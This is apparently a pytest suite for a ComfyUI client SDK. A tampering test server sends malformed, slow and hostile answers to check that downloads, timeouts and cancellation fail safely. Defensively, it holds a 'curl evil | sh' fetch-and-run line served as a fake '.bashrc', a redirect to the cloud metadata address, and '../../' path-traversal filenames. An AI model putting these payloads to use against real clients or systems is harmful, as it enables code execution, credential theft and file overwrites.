"""A misbehaving ComfyUI: every answer checked, every wait bounded, no broken file kept.

The test server runs the real protocol; ``faults.tamper`` replaces or alters single answers
(a body that drips, an HTML page for a video, a history that is a list...). Each case must end
in a typed :class:`~ltx2sdk.errors.LTX2Error` with one clear line, or a correct result, and
never after the deadline plus a little.
"""

from __future__ import annotations

import asyncio
import json
import threading
import time
from collections.abc import Awaitable, Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from aiohttp import web

from ltx2sdk import ComfyClient, Graph
from ltx2sdk.errors import (
    JobCancelledError,
    JobTimeoutError,
    OutputError,
    ServerResponseError,
)
from tests.comfyserver import ComfyTestServer
from tests.comfyserver.faults import Handler, Hang
from tests.helpers import DEADLINE_SLACK, model_free_graph

Tamper = Callable[[web.Request, Handler], Awaitable["web.StreamResponse | None"]]
CLEANUP_SLACK = DEADLINE_SLACK + 5.0  # taking a prompt back from a hanging server may add this


def free_graph() -> Graph:
    """EmptyImage -> CreateVideo -> SaveVideo, its video named ``video/hostile_00001_.mp4``."""
    return model_free_graph(prefix="video/hostile")


@pytest.fixture
def server(tmp_path: Path) -> Iterator[ComfyTestServer]:
    with ComfyTestServer(output_dir=tmp_path / "server-out", input_dir=tmp_path / "in") as srv:
        yield srv


def on(path: str, answer: Callable[[web.Request, Handler], Awaitable[web.StreamResponse]],
       method: str = "GET") -> Tamper:
    """A tamper that changes the answers to ``method`` requests whose path starts with
    ``path`` (the ``/api`` prefix aside) and lets the rest through."""
    async def tamper(request: web.Request, handler: Handler) -> web.StreamResponse | None:
        if request.method == method and request.path.removeprefix("/api").startswith(path):
            return await answer(request, handler)
        return None
    return tamper


def either(*tampers: Tamper) -> Tamper:
    """The first of ``tampers`` that answers a request answers it."""
    async def tamper(request: web.Request, handler: Handler) -> web.StreamResponse | None:
        for each in tampers:
            answer = await each(request, handler)
            if answer is not None:
                return answer
        return None
    return tamper


def rewrite_history(change: Callable[[dict[str, Any]], None]
                    ) -> Callable[[web.Request, Handler], Awaitable[web.StreamResponse]]:
    """The real history answer with ``change`` applied to each entry."""
    async def answer(request: web.Request, handler: Handler) -> web.StreamResponse:
        response = await handler(request)
        assert isinstance(response, web.Response) and response.body is not None
        entry = json.loads(bytes(response.body))  # type: ignore[arg-type]
        for item in entry.values():
            change(item)
        return web.json_response(entry)
    return answer


def json_answer(data: Any) -> Callable[[web.Request, Handler], Awaitable[web.StreamResponse]]:
    async def answer(request: web.Request, handler: Handler) -> web.StreamResponse:
        return web.json_response(data)
    return answer


def drip(total: int, every: float = 0.5
         ) -> Callable[[web.Request, Handler], Awaitable[web.StreamResponse]]:
    """An answer that announces ``total`` bytes and sends one every ``every`` seconds."""
    async def answer(request: web.Request, handler: Handler) -> web.StreamResponse:
        response = web.StreamResponse(headers={"Content-Type": "application/json"})
        response.content_length = total
        await response.prepare(request)
        for _ in range(total):
            await response.write(b" ")
            await asyncio.sleep(every)
        return response
    return answer


async def hang(request: web.Request, handler: Handler) -> web.StreamResponse:
    await asyncio.sleep(20)
    return web.Response(status=504)


def served_file(srv: ComfyTestServer, request: web.Request) -> bytes:
    query = request.rel_url.query
    return (srv.output_dir / query.get("subfolder", "") / query["filename"]).read_bytes()


def timed(fn: Callable[[], Any]) -> tuple[float, BaseException | None]:
    start = time.monotonic()
    try:
        fn()
    except BaseException as exc:  # the tests assert on the type
        return time.monotonic() - start, exc
    return time.monotonic() - start, None


# --- downloads: a broken file is never a video --------------------------------------------------

@pytest.mark.parametrize(("name", "make_body"), [
    ("html-page", lambda real: b"<!doctype html><title>502 Bad Gateway</title>"),
    ("empty-body", lambda real: b""),
    ("cut-in-half", lambda real: real[: len(real) // 2]),
    ("one-byte-short", lambda real: real[:-1]),
    ("garbage-after", lambda real: real + b"\x00" * 3),
])
def test_a_view_that_is_not_the_video_is_an_output_error(
        server: ComfyTestServer, tmp_path: Path, name: str,
        make_body: Callable[[bytes], bytes]) -> None:
    async def answer(request: web.Request, handler: Handler) -> web.StreamResponse:
        return web.Response(body=make_body(served_file(server, request)),
                            content_type="video/mp4")

    server.faults.tamper = on("/view", answer)
    out = tmp_path / "out"
    with pytest.raises(OutputError) as caught:
        ComfyClient(server.url).run(free_graph(), output_dir=out, timeout=30)
    message = str(caught.value)
    assert "node 3 output 'hostile_00001_.mp4'" in message and "\n" not in message
    assert not [p for p in out.rglob("*") if p.is_file()]  # nothing broken is left behind


@pytest.mark.parametrize("location", ["http://169.254.169.254/latest/meta-data/",
                                      "/view?filename=other.mp4&type=output"])
def test_a_redirect_from_the_server_is_not_followed(
        server: ComfyTestServer, tmp_path: Path, location: str,
        monkeypatch: pytest.MonkeyPatch) -> None:
    """The configured server is trusted; where it redirects is not (ComfyUI never does):
    the redirect is a server-response error naming it, and nothing is sent there (the
    resolver refuses to look the metadata address up, and says if it was asked)."""
    import socket

    asked: list[str] = []
    real_getaddrinfo = socket.getaddrinfo

    def getaddrinfo(host: Any, *args: Any, **kwargs: Any) -> Any:
        if host != "127.0.0.1":
            asked.append(str(host))
            raise socket.gaierror(socket.EAI_NONAME, "refused by the test")
        return real_getaddrinfo(host, *args, **kwargs)

    monkeypatch.setattr(socket, "getaddrinfo", getaddrinfo)
    followed: list[str] = []

    async def answer(request: web.Request, handler: Handler) -> web.StreamResponse:
        if request.query.get("filename") == "other.mp4":
            followed.append(request.path_qs)
            return await handler(request)
        return web.Response(status=302, headers={"Location": location})

    server.faults.tamper = on("/view", answer)
    with pytest.raises(OutputError) as caught:
        ComfyClient(server.url).run(free_graph(), output_dir=tmp_path / "out", timeout=30)
    message = str(caught.value)
    assert f"HTTP 302, a redirect to {location} (not followed)" in message, message
    assert asked == [] and followed == []


def test_a_body_shorter_than_its_content_length_is_an_output_error(
        server: ComfyTestServer, tmp_path: Path) -> None:
    async def answer(request: web.Request, handler: Handler) -> web.StreamResponse:
        real = served_file(server, request)
        response = web.StreamResponse(headers={"Content-Type": "video/mp4"})
        response.content_length = len(real)
        await response.prepare(request)
        await response.write(real[:100])
        request.transport.close()  # type: ignore[union-attr]
        return response

    server.faults.tamper = on("/view", answer)
    with pytest.raises(OutputError, match=r"node 3 output 'hostile_00001_\.mp4' could not be "
                                          "downloaded"):
        ComfyClient(server.url).run(free_graph(), output_dir=tmp_path / "out", timeout=30)
    assert not [p for p in (tmp_path / "out").rglob("*") if p.is_file()]


def test_an_invalid_content_length_is_an_output_error(server: ComfyTestServer,
                                                      tmp_path: Path) -> None:
    async def answer(request: web.Request, handler: Handler) -> web.StreamResponse:
        body = served_file(server, request)
        response = web.StreamResponse(headers={"Content-Type": "video/mp4",
                                               "Content-Length": f"{len(body)} bytes"})
        await response.prepare(request)
        await response.write(body)
        request.transport.close()  # type: ignore[union-attr]
        return response

    server.faults.tamper = on("/view", answer)
    with pytest.raises(OutputError, match=r"node 3 output 'hostile_00001_\.mp4'"):
        ComfyClient(server.url).run(free_graph(), output_dir=tmp_path / "out", timeout=30)


def test_three_outputs_with_one_name_get_three_local_names(server: ComfyTestServer,
                                                          tmp_path: Path) -> None:
    def three_folders(item: dict[str, Any]) -> None:
        ui = item["outputs"]["3"]
        ui["images"] = [{**ui["images"][0], "subfolder": folder}
                        for folder in ("video", "video/a", "video/b")]
        ui["animated"] = [True] * 3

    async def view(request: web.Request, handler: Handler) -> web.StreamResponse:
        path = server.output_dir / "video" / request.rel_url.query["filename"]
        return web.Response(body=path.read_bytes(), content_type="video/mp4")

    server.faults.tamper = either(on("/history/", rewrite_history(three_folders)),
                                  on("/view", view))
    run = ComfyClient(server.url).run(free_graph(), output_dir=tmp_path / "out", timeout=30)
    assert len(run.outputs) == 3
    assert sorted(path.name for path in run.files.values()) == [
        "3_hostile_00001_.mp4", "3_hostile_00001__2.mp4", "hostile_00001_.mp4"]
    assert all(path.parent == tmp_path / "out" and path.is_file() for path in run.files.values())


def test_output_names_from_the_server_stay_inside_the_output_dir(server: ComfyTestServer,
                                                                tmp_path: Path) -> None:
    def climb_out(item: dict[str, Any]) -> None:
        for image in item["outputs"]["3"]["images"]:
            image["filename"] = "../../" + image["filename"]

    async def view(request: web.Request, handler: Handler) -> web.StreamResponse:
        # a real ComfyUI refuses ".." in /view; a hostile one serves anything
        name = Path(request.rel_url.query["filename"]).name
        return web.Response(body=(server.output_dir / "video" / name).read_bytes())

    server.faults.tamper = either(on("/history/", rewrite_history(climb_out)), on("/view", view))
    run = ComfyClient(server.url).run(free_graph(), output_dir=tmp_path / "a" / "out",
                                      timeout=30)
    assert [path.relative_to(tmp_path) for path in run.files.values()] == [
        Path("a/out/hostile_00001_.mp4")]
    assert not list(tmp_path.glob("*.mp4"))


def test_a_name_the_server_chose_never_replaces_a_file(server: ComfyTestServer,
                                                      tmp_path: Path) -> None:
    """Outputs named like files already in the output folder (the user's older video, a
    dotfile) get fresh names: only a name the user gave replaces a file."""
    def dotfile_too(item: dict[str, Any]) -> None:
        ui = item["outputs"]["3"]
        ui["images"] = [ui["images"][0], {**ui["images"][0], "filename": ".bashrc"}]
        ui["animated"] = [True, False]

    async def view(request: web.Request, handler: Handler) -> web.StreamResponse:
        if request.rel_url.query["filename"] == ".bashrc":
            return web.Response(body=b"curl evil | sh\n")
        return await handler(request)

    server.faults.tamper = either(on("/history/", rewrite_history(dotfile_too)),
                                  on("/view", view))
    out = tmp_path / "out"
    out.mkdir()
    (out / ".bashrc").write_bytes(b"mine\n")
    (out / "hostile_00001_.mp4").write_bytes(b"my older video")
    run = ComfyClient(server.url).run(free_graph(), output_dir=out, timeout=30)
    assert sorted(path.name for path in run.files.values()) == [
        ".bashrc (1)", "hostile_00001_ (1).mp4"]
    assert (out / ".bashrc").read_bytes() == b"mine\n"
    assert (out / "hostile_00001_.mp4").read_bytes() == b"my older video"
    assert (out / ".bashrc (1)").read_bytes() == b"curl evil | sh\n"
    assert sorted(p.name for p in out.iterdir()) == [  # nothing else left behind
        ".bashrc", ".bashrc (1)", "hostile_00001_ (1).mp4", "hostile_00001_.mp4"]


def test_a_video_that_fails_its_check_leaves_the_users_file_of_its_name(
        server: ComfyTestServer, tmp_path: Path) -> None:
    async def page(request: web.Request, handler: Handler) -> web.StreamResponse:
        return web.Response(body=b"<!doctype html>", content_type="video/mp4")

    server.faults.tamper = on("/view", page)
    out = tmp_path / "out"
    out.mkdir()
    (out / "hostile_00001_.mp4").write_bytes(b"my older video")
    with pytest.raises(OutputError):
        ComfyClient(server.url).run(free_graph(), output_dir=out, timeout=30)
    assert [(p.name, p.read_bytes()) for p in out.iterdir()] == [
        ("hostile_00001_.mp4", b"my older video")]


# --- malformed answers are typed errors ---------------------------------------------------------

@pytest.mark.parametrize(("path", "body"), [
    ("/history/", ["not", "an", "object"]),
    ("/history/", {"{prompt_id}": "an entry that is text"}),
    ("/history/", {"{prompt_id}": {"status": {"completed": True}, "outputs": ["x"]}}),
    ("/history/", {"{prompt_id}": {"status": {"completed": True}, "outputs": {"3": {
        "images": [{"filename": "a\u0000.mp4", "subfolder": "", "type": "output"}]}}}}),
    ("/history/", {"{prompt_id}": {"status": {"completed": True}, "outputs": {"3": {
        "images": [{"filename": "x" * 300 + ".mp4", "subfolder": "", "type": "output"}]}}}}),
    ("/history/", {"{prompt_id}": {"status": {"completed": True}, "outputs": {"3": {
        "images": [{"filename": 42, "subfolder": "", "type": "output"}]}}}}),
    ("/history/", {"{prompt_id}": {"status": {"completed": True}, "outputs": {"3": {
        "images": [{"filename": "a.mp4", "subfolder": "", "type": "/etc"}]}}}}),
    ("/history/", {"{prompt_id}": {"status": "done", "outputs": {}}}),
])
def test_a_malformed_history_is_a_server_response_error(server: ComfyTestServer, path: str,
                                                        body: Any, tmp_path: Path) -> None:
    async def answer(request: web.Request, handler: Handler) -> web.StreamResponse:
        prompt_id = request.match_info.get("prompt_id") or request.path.rsplit("/", 1)[-1]
        text = json.dumps(body).replace("{prompt_id}", prompt_id)
        return web.Response(text=text, content_type="application/json")

    server.faults.tamper = on(path, answer)
    with pytest.raises(ServerResponseError) as caught:
        ComfyClient(server.url, receive_timeout=0.5).run(
            free_graph(), output_dir=tmp_path / "out", timeout=20)
    assert "\n" not in str(caught.value) and "history" in str(caught.value).lower()


@pytest.mark.parametrize(("path", "method", "body"), [
    ("/object_info", "GET", ["a list"]),
    ("/system_stats", "GET", "text"),
    ("/prompt", "POST", ["a", "list"]),
    ("/prompt", "POST", {"prompt_id": 12}),
    ("/queue", "GET", {"queue_running": "busy", "queue_pending": []}),
])
def test_malformed_answers_elsewhere_are_server_response_errors(
        server: ComfyTestServer, path: str, method: str, body: Any) -> None:
    tamper = on(path, json_answer(body), method=method)
    if path == "/queue":  # the queue is read when the socket is silent and history is empty
        server.faults.hang = Hang.NOT_STARTED
        server.faults.tamper = either(tamper, on("/history/", json_answer({})))
    else:
        server.faults.tamper = tamper
    client = ComfyClient(server.url, receive_timeout=0.3)
    with pytest.raises(ServerResponseError) as caught:
        client.run(free_graph(), timeout=20)
    assert "\n" not in str(caught.value)


def test_progress_that_is_not_numbers_is_ignored() -> None:
    from ltx2sdk.backends.comfyui.wire import parse_event
    from ltx2sdk.backends.events import Progress

    assert parse_event({"type": "progress", "data": {"prompt_id": "p", "node": "1",
                                                     "value": "three", "max": None}}, "p") is None
    assert parse_event({"type": "progress", "data": {"prompt_id": "p", "node": "1",
                                                     "value": 3, "max": 8}}, "p") == Progress(
        "p", "1", 3, 8)
    assert parse_event({"type": "executed", "data": {"prompt_id": "p", "node": "1",
                                                     "output": ["x"]}}, "p") is not None


# --- every wait ends by the deadline -----------------------------------------------------------

@pytest.mark.parametrize(("path", "method"), [("/view", "GET"), ("/history/", "GET")])
def test_a_dripping_answer_ends_at_the_deadline(server: ComfyTestServer, tmp_path: Path,
                                                path: str, method: str) -> None:
    client = ComfyClient(server.url)
    client.object_info()  # warm: the deadline is for the run itself
    server.faults.tamper = on(path, drip(10_000), method=method)
    elapsed, error = timed(lambda: client.run(free_graph(), output_dir=tmp_path / "o",
                                              timeout=3))
    assert isinstance(error, JobTimeoutError), error
    assert elapsed < 3 + DEADLINE_SLACK


def test_a_hanging_object_info_ends_at_the_deadline(server: ComfyTestServer) -> None:
    server.faults.tamper = on("/object_info", hang)
    elapsed, error = timed(lambda: ComfyClient(server.url).run(free_graph(), timeout=2))
    assert isinstance(error, JobTimeoutError), error
    assert elapsed < 2 + DEADLINE_SLACK
    assert server.received.prompts == []


def test_a_hanging_prompt_post_ends_at_the_deadline_and_is_taken_back(
        server: ComfyTestServer) -> None:
    client = ComfyClient(server.url)
    client.object_info()
    server.faults.tamper = on("/prompt", hang, method="POST")
    elapsed, error = timed(lambda: client.run(free_graph(), timeout=2))
    assert isinstance(error, JobTimeoutError), error
    assert elapsed < 2 + CLEANUP_SLACK
    # the server may have queued it without answering: the client took it back
    assert server.received.interrupts and server.received.queue_ops


# --- a cancel before the prompt is queued means never queued ----------------------------------

def test_a_cancel_before_queueing_queues_nothing(server: ComfyTestServer) -> None:
    cancel = threading.Event()
    cancel.set()
    with pytest.raises(JobCancelledError, match="before its prompt was queued"):
        ComfyClient(server.url).run(free_graph(), timeout=20, cancel=cancel)
    assert server.received.prompts == []


def test_a_cancel_while_running_interrupts_the_prompt(server: ComfyTestServer) -> None:
    server.faults.node_delay = 0.5
    cancel = threading.Event()
    queued: list[str] = []

    def on_queued(prompt_id: str) -> None:
        queued.append(prompt_id)
        threading.Timer(0.3, cancel.set).start()

    # uncancelled, the run would end by itself in 1.5 s, with no error
    with pytest.raises(JobCancelledError) as caught:
        ComfyClient(server.url).run(free_graph(), timeout=30, cancel=cancel, on_queued=on_queued)
    assert caught.value.prompt_id == queued[0]
    assert {"prompt_id": queued[0]} in server.received.interrupts


def test_a_websocket_frame_that_drips_does_not_hold_the_run(server: ComfyTestServer,
                                                             tmp_path: Path) -> None:
    async def dripping_socket(request: web.Request, handler: Handler) -> web.StreamResponse:
        ws = web.WebSocketResponse()
        await ws.prepare(request)
        assert request.transport is not None
        request.transport.write(b"\x81\x7e\x01\x00")  # a text frame of 256 bytes...
        for _ in range(120):  # ...that arrives a byte every half second
            await asyncio.sleep(0.5)
            if request.transport.is_closing():
                break
            request.transport.write(b" ")
        return ws

    server.faults.tamper = on("/ws", dripping_socket)
    elapsed, error = timed(lambda: ComfyClient(server.url, receive_timeout=1).run(
        free_graph(), output_dir=tmp_path / "out", timeout=20))
    assert error is None, error  # history tells the outcome the socket could not
    assert elapsed < 8  # the subject: the drip would hold the run for a minute


MIB_FRAME = b"\x00\x7f" + (1 << 20).to_bytes(8, "big")  # a continuation frame of 1 MiB


@pytest.mark.parametrize(("first", "each"), [
    (b"\x82\x7f" + (300 << 20).to_bytes(8, "big"), b""),  # one binary frame of 300 MB
    (b"\x02\x7f" + (1 << 20).to_bytes(8, "big"), MIB_FRAME),  # a message of frames, no end
], ids=["one-frame", "fragmented"])
def test_a_huge_websocket_message_is_a_dropped_socket_not_memory(
        server: ComfyTestServer, tmp_path: Path, first: bytes, each: bytes) -> None:
    """A message of hundreds of MB is refused (at the header of a frame that long): the run
    goes on by the history, as when the socket drops, and the client stops reading."""
    sent: list[int] = []

    async def huge_frame(request: web.Request, handler: Handler) -> web.StreamResponse:
        ws = web.WebSocketResponse()
        await ws.prepare(request)
        transport = request.transport
        assert transport is not None
        transport.write(first)
        written, chunk = 0, bytes(1 << 20)
        while written < 64 << 20 and not transport.is_closing():
            transport.write(chunk + each)
            written += len(chunk)
            while transport.get_write_buffer_size() > 1 << 20 and not transport.is_closing():
                await asyncio.sleep(0.005)  # written only as fast as the client reads
        sent.append(written - transport.get_write_buffer_size())
        transport.close()
        return ws

    server.faults.tamper = on("/ws", huge_frame)
    run = ComfyClient(server.url, receive_timeout=1).run(free_graph(), output_dir=tmp_path,
                                                         timeout=30)
    assert [p.name for p in run.files.values()] == ["hostile_00001_.mp4"]
    assert sent and max(sent) < 24 << 20, sent  # socket buffers at most, not the 64 MB


def drip_head(every: float = 0.5
              ) -> Callable[[web.Request, Handler], Awaitable[web.StreamResponse]]:
    """An answer whose status line and headers arrive a byte every ``every`` seconds (no
    single read waits long, so only a bound on the whole exchange ends it)."""
    async def answer(request: web.Request, handler: Handler) -> web.StreamResponse:
        assert request.transport is not None
        head = b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nX-Slow: " + b"x" * 200
        for byte in head:
            if request.transport.is_closing():
                break
            request.transport.write(bytes([byte]))
            await asyncio.sleep(every)
        request.transport.close()
        return web.Response()
    return answer


@pytest.mark.parametrize(("path", "method"), [("/object_info", "GET"), ("/prompt", "POST")])
def test_an_answer_whose_head_drips_ends_at_the_deadline(server: ComfyTestServer, path: str,
                                                         method: str) -> None:
    """The bound covers an exchange from its first byte sent, not only once the headers
    are in."""
    client = ComfyClient(server.url)
    if path != "/object_info":
        client.object_info()
    server.faults.tamper = on(path, drip_head(), method=method)
    elapsed, error = timed(lambda: client.run(free_graph(), timeout=3))
    assert isinstance(error, JobTimeoutError), error
    assert elapsed < 3 + (DEADLINE_SLACK if method == "GET" else CLEANUP_SLACK)
